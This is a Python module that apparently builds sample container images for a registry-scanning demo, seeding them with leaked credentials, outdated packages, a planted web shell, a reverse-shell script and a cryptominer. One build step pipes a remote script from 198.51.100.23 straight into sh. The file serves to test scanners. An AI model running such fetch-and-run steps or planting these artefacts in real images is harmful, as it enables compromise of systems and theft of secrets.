"""The sample images of the demo: what a registry of a small company holds, the bad days included."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from functools import cache

from demo import build, sample_secrets, systems
from demo.build import Blob, BuiltManifest, ImageStep, text
from demo.languages import npm_packages, python_packages
from demo.registry_server import RegistryServer

SITE_PACKAGES = "usr/local/lib/python3.11/site-packages"
RUNNER_PACKAGES = """
libnghttp2-14 1.52.0-1 nghttp2
libexpat1 2.5.0-1 expat
git 1:2.39.2-1.1
make 4.3-4.1 make-dfsg
jq 1.6-2.1
rsync 3.2.7-1
unzip 6.0-28
xz-utils 5.4.1-0.2
patch 2.7.6-7
wget 1.21.3-1+b1 wget=1.21.3-1
socat 1.7.4.4-2
"""


@dataclass(frozen=True)
class SampleTag:
    """What one tag of the sample registry names. ``is_image`` says whether a sync must list it."""

    repository: str
    tag: str
    content: BuiltManifest
    is_image: bool = True


def samples() -> Iterator[SampleTag]:
    """Yield every tag of the sample registry."""
    web, api = _web(), _api()
    web_manifest = build.image(build.config(web), web, "docker")
    yield SampleTag(
        "library/debian",
        "12",
        build.image(build.config(systems.debian()), systems.debian(), "docker"),
    )
    yield SampleTag(
        "library/debian",
        "12.0",
        build.image(build.config(systems.debian()), systems.debian(), "docker"),
    )
    yield SampleTag(
        "library/alpine",
        "3.18",
        build.image(build.config(systems.alpine()), systems.alpine(), "docker"),
    )
    yield SampleTag("shop/storefront/web", "2.4.1", web_manifest)
    yield SampleTag("shop/storefront/web", "latest", web_manifest)
    yield SampleTag(
        "shop/storefront/web", _signature_tag(web_manifest.manifest), _signature(web_manifest.manifest), False
    )
    # The same image once more, packed anew: another manifest and other layer digests, but the same image ID.
    yield SampleTag("mirror/shop/web", "2.4.1", build.image(build.config(web), web, "oci-zstd"))
    yield SampleTag("shop/storefront/api", "3.1.0", build.image(build.config(api), api))
    payments = build.index([_payments("amd64"), _payments("arm64")])
    yield SampleTag("shop/backend/payments", "1.8.0", payments)
    yield SampleTag("shop/backend/payments", "1.8", payments)
    yield SampleTag("shop/backend/reports", "0.9.2", _built(_reports(), "oci-zstd"))
    yield SampleTag("platform/ci/runner", "2024.6", _built(_runner()))
    yield SampleTag("platform/mail/gateway", "5.2", _built(_mail_gateway(), "docker"))
    yield SampleTag("marketing/legacy/cms", "4.7", _built(_cms(), "docker"))
    yield SampleTag("research/lab/notebook", "nightly", _built(_notebook()))
    yield SampleTag("platform/base/static", "1.0.0", _built(_static()))
    yield SampleTag("charts/storefront", "0.3.1", _chart(), False)


def sample_registry(*, port: int = 0, users: Mapping[str, str]) -> RegistryServer:
    """Return a distribution server that holds the samples and gives them to ``users`` (name → password)."""
    server = RegistryServer(port=port, method="bearer", users=users)
    for sample in samples():
        content = sample.content
        for blob in content.blobs:
            server.put_blob(blob.data)
        for child in content.children:
            server.put_manifest(sample.repository, child.digest, child.data, child.media_type)
        server.put_manifest(sample.repository, sample.tag, content.manifest.data, content.manifest.media_type)
    return server


def _built(steps: tuple[ImageStep, ...], format_: build.Format = "oci") -> BuiltManifest:
    return build.image(build.config(steps), steps, format_)


@cache
def _web() -> tuple[ImageStep, ...]:
    """A shop front in Node: old packages, and a Slack webhook in its settings."""
    packages = {"axios": "0.21.0", "express": "4.16.0", "lodash": "4.17.15", "minimist": "1.2.0", "qs": "6.5.2"}
    settings = (
        "NODE_ENV=production\nPORT=8080\n"
        f"ALERTS_WEBHOOK={sample_secrets.slack_webhook('storefront')}\n"
        f"STRIPE_SECRET_KEY={sample_secrets.stripe_key('storefront')}\n"
    )
    return (
        *systems.alpine(),
        ImageStep(
            "RUN /bin/sh -c apk add --no-cache nodejs=18.16.0-r1 curl=8.1.1-r0 # buildkit",
            (
                *systems.alpine_packages("c-ares 1.19.1-r0\ncurl 8.1.1-r0\nlibcurl 8.1.1-r0 curl\nnodejs 18.16.0-r1"),
                systems.program("usr/bin/node", 420_000),
            ),
        ),
        ImageStep("WORKDIR /srv/web"),
        ImageStep(
            "RUN /bin/sh -c npm ci --omit=dev # buildkit",
            npm_packages(packages, folder="srv/web", name="storefront"),
        ),
        ImageStep(
            "COPY . . # buildkit",
            (text("srv/web/server.js", "require('express')().listen(8080);\n"), text("srv/web/.env", settings, 0o600)),
        ),
        ImageStep("EXPOSE map[8080/tcp:{}]"),
        ImageStep('CMD ["node" "server.js"]'),
    )


@cache
def _api() -> tuple[ImageStep, ...]:
    """A Django service whose build used cloud credentials and took them away again, one layer too late."""
    packages = {"Django": "3.2.0", "Jinja2": "2.11.2", "requests": "2.25.0", "urllib3": "1.26.4", "sqlparse": "0.4.1"}
    return (
        *systems.debian(),
        ImageStep("ENV PYTHONUNBUFFERED=1"),
        _debian_python(),
        ImageStep(
            "COPY deploy/credentials /root/.aws/credentials # buildkit",
            (text("root/.aws/credentials", sample_secrets.aws_credentials("deploy"), 0o600),),
        ),
        ImageStep(
            "RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt # buildkit",
            python_packages(packages, site=SITE_PACKAGES),
        ),
        ImageStep(
            "RUN /bin/sh -c rm /root/.aws/credentials # buildkit",
            (build.removed("root/.aws/credentials"),),
        ),
        ImageStep(
            "COPY . /srv/api # buildkit",
            (
                text("srv/api/manage.py", "from django.core.management import execute_from_command_line\n"),
                text(
                    "srv/api/.netrc", f"machine github.com login deploy password {sample_secrets.github_token('api')}\n"
                ),
            ),
        ),
        ImageStep('CMD ["gunicorn" "api.wsgi"]'),
    )


def _debian_python() -> ImageStep:
    return ImageStep(
        "RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends python3 curl "
        "&& rm -rf /var/lib/apt/lists/* # buildkit",
        (
            *systems.debian_packages(
                "ca-certificates 20230311\ncurl 7.88.1-10\nlibcurl4 7.88.1-10 curl\nlibexpat1 2.5.0-1 expat\n"
                "libsqlite3-0 3.40.1-2 sqlite3\nlibssl3 3.0.9-1 openssl\nlibwebp7 1.2.4-0.2 libwebp\n"
                "openssl 3.0.9-1\npython3.11-minimal 3.11.2-6 python3.11"
            ),
            systems.program("usr/local/bin/python3.11", 380_000),
        ),
    )


def _payments(architecture: str) -> BuiltManifest:
    """One platform of a service for two; each holds a TLS key that should have been mounted."""
    steps = (
        *systems.alpine("aarch64" if architecture == "arm64" else "x86_64"),
        ImageStep(
            "COPY payments /usr/local/bin/payments # buildkit",
            (systems.program(f"usr/local/bin/payments-{architecture}", 300_000),),
        ),
        ImageStep(
            "COPY tls/ /etc/payments/tls/ # buildkit",
            (text("etc/payments/tls/server.key", sample_secrets.private_key("payments"), 0o600),),
        ),
        ImageStep('ENTRYPOINT ["/usr/local/bin/payments"]'),
    )
    config = build.config(steps, architecture=architecture, variant="v8" if architecture == "arm64" else "")
    return build.image(config, steps, "oci", os="linux", architecture=architecture)


def _reports() -> tuple[ImageStep, ...]:
    """Python on Debian, its layers compressed with zstd."""
    packages = {"PyYAML": "5.3", "Pillow": "9.0.0", "certifi": "2022.9.24", "cryptography": "3.3.1", "lxml": "4.6.2"}
    return (
        *systems.debian(),
        _debian_python(),
        ImageStep(
            "RUN /bin/sh -c pip install --no-cache-dir reports==0.9.2 # buildkit",
            python_packages(packages, site=SITE_PACKAGES),
        ),
        ImageStep('CMD ["python3.11" "-m" "reports"]'),
    )


def _runner() -> tuple[ImageStep, ...]:
    """A build runner: many layers, and a deploy key and a token left in them."""
    return (
        *systems.debian(),
        ImageStep("ARG DEBIAN_FRONTEND=noninteractive"),
        *_installed_one_by_one(RUNNER_PACKAGES),
        ImageStep(
            "COPY id_ed25519 /home/runner/.ssh/id_ed25519 # buildkit",
            (text("home/runner/.ssh/id_ed25519", sample_secrets.private_key("runner"), 0o600),),
        ),
        ImageStep(
            "RUN |1 DEBIAN_FRONTEND=noninteractive /bin/sh -c git config --global credential.helper store # buildkit",
            (
                text(
                    "home/runner/.git-credentials",
                    f"https://ci:{sample_secrets.github_token('runner')}@github.com\n",
                    0o600,
                ),
            ),
        ),
        ImageStep("USER runner"),
        ImageStep('ENTRYPOINT ["/usr/local/bin/run"]'),
    )


def _installed_one_by_one(table: str) -> Iterator[ImageStep]:
    before = systems.DEBIAN_PACKAGES
    for line in table.strip().split("\n"):
        name = line.split()[0]
        yield ImageStep(
            f"RUN |1 DEBIAN_FRONTEND=noninteractive /bin/sh -c apt-get install -y {name} # buildkit",
            (
                *systems.debian_packages(line, before=before),
                systems.program(f"usr/bin/{name}", 40_000),
            ),
        )
        before += f"\n{line}"


def _mail_gateway() -> tuple[ImageStep, ...]:
    """A mail gateway that ships the file it tests its virus scanner with."""
    return (
        *systems.alpine(),
        ImageStep(
            "/bin/sh -c #(nop) COPY dir:9d1c0f in /opt/gateway ",
            (
                text("opt/gateway/gateway.conf", "listen = 0.0.0.0:2525\nscanner = clamd\n"),
                build.ImageFile("opt/gateway/selftest/eicar.com", sample_secrets.eicar()),
            ),
            comment="",
        ),
        ImageStep('/bin/sh -c #(nop)  CMD ["/opt/gateway/run"]', comment=""),
    )


def _cms() -> tuple[ImageStep, ...]:
    """An old content management system that somebody else has been to."""
    return (
        *systems.debian(),
        ImageStep(
            "/bin/sh -c #(nop) COPY dir:4f2a77 in /var/www/html ",
            (
                text("var/www/html/index.php", "<?php require 'lib/site.php'; site_render($_SERVER['REQUEST_URI']);\n"),
                text("var/www/html/lib/site.php", "<?php function site_render($p) { echo htmlspecialchars($p); }\n"),
                text("var/www/html/uploads/2024/06/avatar.php", sample_secrets.web_shell()),
                text("var/tmp/.cache/sync.sh", sample_secrets.reverse_shell(), 0o755),
            ),
            comment="",
        ),
        ImageStep('/bin/sh -c #(nop)  CMD ["apache2-foreground"]', comment=""),
    )


def _notebook() -> tuple[ImageStep, ...]:
    """A notebook server of which a part of the work is not the owner's."""
    return (
        *systems.debian(),
        _debian_python(),
        ImageStep(
            "RUN /bin/sh -c pip install --no-cache-dir notebook # buildkit",
            python_packages({"notebook": "6.4.0", "tornado": "6.1", "Jinja2": "2.11.2"}, site=SITE_PACKAGES),
        ),
        ImageStep(
            "RUN /bin/sh -c curl -fsSL http://198.51.100.23/setup.sh | sh # buildkit",
            (
                text("tmp/.x/config.json", sample_secrets.miner_config()),
                text("etc/cron.hourly/sysupdate", sample_secrets.miner_script(), 0o755),
            ),
        ),
        ImageStep('CMD ["jupyter" "notebook"]'),
    )


def _static() -> tuple[ImageStep, ...]:
    """One program and nothing else: the image that has nothing to find."""
    return (
        ImageStep(
            "COPY server /server # buildkit",
            (
                systems.program("server", 250_000),
                text("etc/passwd", "nonroot:x:65532:65532:nonroot:/home/nonroot:/sbin/nologin\n"),
            ),
        ),
        ImageStep("USER 65532:65532"),
        ImageStep('ENTRYPOINT ["/server"]'),
    )


def _chart() -> BuiltManifest:
    """A Helm chart, pushed as helm pushes it."""
    chart = ImageStep("", (text("storefront/Chart.yaml", "apiVersion: v2\nname: storefront\nversion: 0.3.1\n"),))
    return build.artifact(
        build.as_json(
            "application/vnd.cncf.helm.config.v1+json", {"name": "storefront", "version": "0.3.1", "apiVersion": "v2"}
        ),
        [Blob("application/vnd.cncf.helm.chart.content.v1.tar+gzip", build.gzipped(chart.tar))],
        **{"org.opencontainers.image.title": "storefront", "org.opencontainers.image.version": "0.3.1"},
    )


def _signature_tag(subject: Blob) -> str:
    return subject.digest.replace(":", "-") + ".sig"


def _signature(subject: Blob) -> BuiltManifest:
    """A cosign signature of ``subject``, by a tag, with the image config type that cosign gives it."""
    payload = build.as_json(
        "application/vnd.dev.cosign.simplesigning.v1+json",
        {
            "critical": {
                "identity": {"docker-reference": ""},
                "image": {"docker-manifest-digest": subject.digest},
                "type": "cosign container image signature",
            },
            "optional": None,
        },
        annotations={"dev.cosignproject.cosign/signature": hashlib.sha512(subject.data).hexdigest()},
    )
    config = {
        "architecture": "",
        "config": {},
        "created": "0001-01-01T00:00:00Z",
        "history": [{"created": "0001-01-01T00:00:00Z"}],
        "os": "",
        "rootfs": {"type": "layers", "diff_ids": [payload.digest]},
    }
    return build.artifact(build.as_json(build.OCI_CONFIG, config), [payload])
